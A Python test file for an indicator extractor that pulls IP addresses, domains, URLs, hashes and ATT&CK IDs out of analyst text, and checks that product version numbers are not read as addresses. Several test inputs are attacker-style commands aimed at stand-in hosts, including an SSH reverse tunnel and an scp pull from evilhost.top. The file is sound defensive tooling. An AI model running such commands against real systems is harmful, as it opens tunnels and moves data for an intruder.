"""Everyday shapes of logs, inventories and command lines, each with what an analyst wants of it."""

from __future__ import annotations

import pytest

from tests.pipeline.found import found

MD5 = "7c1f3a9be02d4568a1b9c3d7e5f60824"
SHA256 = "5f1d2a9c0b3e4d7f8a6b9c1e2d3f405162738495a6b7c8d9eafb0c1d2e3f4a5b"


@pytest.mark.parametrize(
    "text",
    [
        "Adobe Acrobat Reader 11.0.23.5",
        "Cisco AnyConnect 4.10.5.11",
        "VMware vCenter 8.0.2.1",
        "Microsoft Edge 11.0.23.5 (64-bit)",
        "Veeam Backup & Replication 12.1.2.17",
        "TeamViewer 15.2.4.1",
        "Wireshark 4.0.6.1",
        "version < 9.1.0.4",
        "versions <= 9.1.0.4",
        "Server: nginx/1.18.0.2",
        "версия 9.1.0.4",
        "versión 9.1.0.4",
    ],
)
def test_the_version_of_a_product_is_no_address(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("Google DNS 8.8.8.8", "8.8.8.8"),
        ("Microsoft Azure 20.1.2.3", "20.1.2.3"),
        ("Cisco Router 10.1.1.1", "10.1.1.1"),
        ("Microsoft Corporation 13.107.6.152", "13.107.6.152"),
        ("Adobe server at 9.1.2.3", "9.1.2.3"),
        ("Contacted Host 9.1.2.3", "9.1.2.3"),
        ("outside/9.1.2.3", "9.1.2.3"),
        ("latency < 9.1.2.3", "9.1.2.3"),
    ],
)
def test_an_address_behind_other_words_stays_one(text: str, address: str) -> None:
    assert found(text) == [f"ipv4 {address}"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "session created 10.0.0.5/51022->45.9.148.21/443 junos-https",
            ["ipv4 10.0.0.5", "ipv4 45.9.148.21"],
        ),
        ("ssh admin@evilhost2.top -p 2222", ["domain evilhost2.top"]),
        ("scp root@evilhost.top:/x/a .", ["domain evilhost.top"]),
        ("rsync -av backup@evilhost.top::mod /x", ["domain evilhost.top"]),
        ("ssh -R 8080:localhost:80 -i key tunnel@evilhost.top", ["domain evilhost.top"]),
        ("write to admin@evilhost.top", ["email admin@evilhost.top"]),
        ("used ssh. Mail admin@evilhost.top", ["email admin@evilhost.top"]),
        (
            "https://attack.mitre.org/techniques/T1055/012/",
            ["url https://attack.mitre.org/techniques/T1055/012/", "attack T1055.012"],
        ),
        (
            "https://attack.mitre.org/techniques/T1055",
            ["url https://attack.mitre.org/techniques/T1055", "attack T1055"],
        ),
        (
            "https://attack.mitre.org/groups/G0016/",
            ["url https://attack.mitre.org/groups/G0016/", "attack G0016"],
        ),
        (f"SHA-256  {SHA256[:40]}-\n{SHA256[40:]}", [f"sha256 {SHA256}"]),
        (f"SHA256: {SHA256[:32]}\\\n{SHA256[32:]}", [f"sha256 {SHA256}"]),
        (f"Imphash is {MD5}", [f"imphash {MD5}"]),
        (f"imp_hash= {MD5}", [f"imphash {MD5}"]),
        (f"the sample is {MD5}", [f"md5 {MD5}"]),
        (f'boundary="{MD5}"', []),
        ("https://\nevilstage.top/login", ["url https://evilstage.top/login"]),
        ("https://fr.evilstage.top/l'offre.html", ["url https://fr.evilstage.top/l'offre.html"]),
        ("open('https://evil.top/l'+x)", ["url https://evil.top/l"]),
        ("from scipy.io import loadmat", []),
    ],
)
def test_everyday_shapes(text: str, expected: list[str]) -> None:
    assert found(text) == expected
